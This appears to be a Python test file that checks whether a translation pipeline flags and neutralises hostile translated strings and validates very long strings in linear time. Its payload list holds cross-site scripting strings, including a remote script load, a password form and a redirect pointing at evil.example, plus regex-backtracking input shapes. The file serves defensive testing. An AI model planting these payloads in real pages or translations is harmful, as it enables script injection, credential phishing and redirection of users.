"""Hostile translations: whatever a msgstr holds, `check` flags it and `build` emits no markup.

Each payload becomes the msgstr of every entry of a real catalog (element text, the title, and
attribute values quoted with ", with ' and unquoted, and a meta description), keeping the msgid's
placeholders so the build really splices it in. The built page is parsed, not grepped: it must
have exactly the source page's elements and attribute names, in the same order, and the same
URLs, whatever the text says.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from bs4 import BeautifulSoup, Tag

from pipeline.checks import Glossary, GlossaryTerm, check_catalog
from pipeline.model import Catalog, Message
from pipeline.placeholders import Tag as Placeholder
from pipeline.placeholders import tokenize
from pipeline.pofile import parse_po
from tests.reliability import (
    EPOCH,
    assert_clean,
    best_seconds,
    invoke,
    site_with_catalogs,
    translate,
    write_site,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "x onerror=alert(1) y",
    "</title><script>alert(1)</script>",
    "</p><iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<a href="javascript:alert(1)">click</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&quot; onclick=&quot;alert(1)",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "width: expression(alert(1))",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<!-- swallow the rest of the page",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<1 onclick=alert(1)>smuggled</1>",
    "<1/ onclick=alert(1)>",
    "<9>invented</9>",
    "<1>twice</1><1>twice</1>",
    "</1>closed first<1>",
    "\u202eevil reversed\u202c",
    "\u2066isolate\u2069 text",
    "zero\u200bwidth\u200djoiner\ufeff",
    "line\r\nbreak<script>alert(1)</script>",
    "<form action=//evil.example><input name=password></form>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
]


def hostile(payload: str) -> Callable[[Message], str]:
    """The payload as a msgstr for `message`, keeping the msgid's placeholders."""

    def translation(message: Message) -> str:
        tags = [str(t) for t in tokenize(message.msgid) if isinstance(t, Placeholder)]
        if not tags:
            return payload
        return f"{tags[0]}{payload}" + "".join(tags[1:])

    return translation


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Every element in document order, with its attribute names."""
    soup = BeautifulSoup(html, "html.parser")
    return [(e.name, tuple(sorted(e.attrs))) for e in soup.find_all(True)]


def urls(html: str) -> Counter[str]:
    soup = BeautifulSoup(html, "html.parser")
    found: Counter[str] = Counter()
    for element in soup.find_all(True):
        assert isinstance(element, Tag)
        for name in ("href", "src", "action", "formaction", "xlink:href", "content"):
            value = element.get(name)
            if isinstance(value, str) and name != "content":
                found[f"{element.name} {name}={value}"] += 1
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_flagged_by_check_and_inert_in_the_build(
    payload: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    catalogs = site_with_catalogs(tmp_path, monkeypatch)
    for catalog in catalogs:
        translate(catalog, hostile(payload))

    checked = invoke("check", "--format", "json")
    assert_clean(checked, 1)
    report = json.loads(checked.stdout)
    flagged = {(p["file"], p["msgid"]) for p in report["problems"] if p["severity"] == "error"}
    for catalog in catalogs:
        text = catalog.read_text(encoding="utf-8")
        for message in parse_po(text, path=str(catalog)).active:
            shown = str(catalog.relative_to(tmp_path))
            assert (shown, message.msgid) in flagged, f"{message.msgid!r} not flagged"

    assert_clean(invoke("build", "--jobs", "1", "--min-percent", "0"), 0)
    for name in ("index.html", "other.html"):
        english = (tmp_path / "site/en" / name).read_text(encoding="utf-8")
        built = (tmp_path / "site/ja" / name).read_text(encoding="utf-8")
        soup = BeautifulSoup(built, "html.parser")
        assert not soup.find_all("script")
        for element in soup.find_all(True):
            assert isinstance(element, Tag)
            assert not [a for a in element.attrs if a.lower().startswith("on")], element
            for attribute in ("href", "src"):
                value = element.get(attribute)
                if isinstance(value, str):
                    assert not value.strip().lower().startswith(("javascript:", "data:"))
        assert shape(built) == shape(english)
        assert Counter(n for n, _ in shape(built)) == Counter(n for n, _ in shape(english))
        assert urls(built) == urls(english)


def test_every_translatable_place_received_the_payload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The table above really reaches text, title, attributes (all quotings) and meta content."""
    catalogs = site_with_catalogs(tmp_path, monkeypatch)
    marker = "MARKER\"'<>&"
    for catalog in catalogs:
        translate(catalog, hostile(marker))
    assert_clean(invoke("build", "--jobs", "1", "--min-percent", "0"), 0)
    built = (tmp_path / "site/ja/index.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(built, "html.parser")
    assert soup.title is not None and soup.title.string == marker
    meta = soup.find("meta", attrs={"name": "description"})
    assert isinstance(meta, Tag) and meta["content"] == marker
    assert [img["alt"] for img in soup.find_all("img")] == [marker] * 3
    heading = soup.find("h1")
    assert isinstance(heading, Tag) and heading["title"] == marker
    assert any(p.get_text().startswith(marker) for p in soup.find_all("p"))


# --- long translations -------------------------------------------------------------------------

#: Shapes of one long msgstr that make a backtracking regular expression quadratic when it is
#: tried again from every position of a run: a single word, an address's characters without an
#: `@` (or with nothing after it), digits, URL and markup look-alikes, and spaces between
#: Japanese characters. Each is a function of the length wanted.
LONG_SHAPES: dict[str, Callable[[int], str]] = {
    "one word": lambda n: "a" * n,
    "a. runs": lambda n: "a." * (n // 2),
    "word then @": lambda n: "a" * n + "@",
    "word @ word": lambda n: "a" * (n // 2) + "@" + "b" * (n // 2),
    "@ runs": lambda n: "@" * n,
    "a@ runs": lambda n: "a@" * (n // 2),
    "address then a. runs": lambda n: "x@" + "a." * (n // 2),
    "digits": lambda n: "1" * n,
    "digits, groups": lambda n: "1" + ",111" * (n // 4) + ",1",
    "digits. runs": lambda n: "1." * (n // 2),
    "digits then a unit": lambda n: "1" * n + " mm",
    "http:// repeated": lambda n: "http://" * (n // 7),
    "www. repeated": lambda n: "www." * (n // 4),
    "on and letters": lambda n: "on" + "a" * n,
    "on, letters and spaces": lambda n: "onab" + " " * n,
    "character references": lambda n: "&" + "a" * n,
    "placeholder look-alike": lambda n: "<" + "1" * n + ">",
    "placeholder starts": lambda n: "<1" * (n // 2),
    "data: and letters": lambda n: "data:" + "a" * n,
    "Japanese, spaces, Latin": lambda n: "あ" + " " * n + "x",
}


def _check_seconds(msgstr: str) -> float:
    """The best of three runs of every check on one entry (against an ordinary msgid)."""
    catalog = Catalog(
        messages=(Message("See a@b.example or https://x.example/ for 5 mm.", msgstr),)
    )
    glossary = Glossary((GlossaryTerm("spine", "脊椎"),))
    return best_seconds(
        lambda: check_catalog(catalog, path="ja.po", locale="ja", glossary=glossary)
    )


@pytest.mark.parametrize("shape", LONG_SHAPES, ids=list(LONG_SHAPES))
def test_a_long_translation_is_checked_in_linear_time(shape: str) -> None:
    """Sixteen times the text takes about sixteen times as long, not 256 times.

    A ratio of two sizes on the same machine in the same second, rather than a time limit:
    what a slow or busy machine changes, it changes for both. Linear work gives 16 or less
    (fixed costs weigh more on the small one), quadratic work gives 256 (a 300 KB word took a
    minute before); the bound, 80, leaves a factor of three to noise either way.
    """
    small, large = (_check_seconds(LONG_SHAPES[shape](n)) for n in (8_000, 128_000))
    assert large < 80 * small, f"{shape}: {small * 1e3:.2f} ms, then {large * 1e3:.2f} ms"


def test_megabyte_translations_pass_through_the_real_check(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every shape, 1 MB long, as the msgstr of its own entry, through the CLI: quadratic work
    would take hours here (each check runs in seconds), and the checks still find an address
    written at the end of a long word."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    paragraphs = "".join(f"<p>Paragraph {i}.</p>\n" for i in range(len(LONG_SHAPES) + 1))
    page = f"<!DOCTYPE html><html><head><title>Long</title></head><body>\n{paragraphs}</body>"
    write_site(tmp_path, {"index.html": page + "</html>\n"})
    for command in ("extract", "update"):
        assert_clean(invoke(command), 0)
    size = 1_000_000
    texts = {f"Paragraph {i}.": shape(size) for i, shape in enumerate(LONG_SHAPES.values())}
    texts[f"Paragraph {len(LONG_SHAPES)}."] = "a" * size + "@evil.example"
    catalog = tmp_path / "locales/ja/LC_MESSAGES/index.po"
    translate(catalog, lambda message: texts.get(message.msgid, "長い"))
    checked = invoke("check", "--format", "json")
    assert_clean(checked, 1)
    problems = json.loads(checked.stdout)["problems"]
    assert any(
        p["check"] == "urls" and p["message"].endswith("@evil.example is not in the source")
        for p in problems
    )
    assert not [p for p in problems if p["severity"] == "error"]
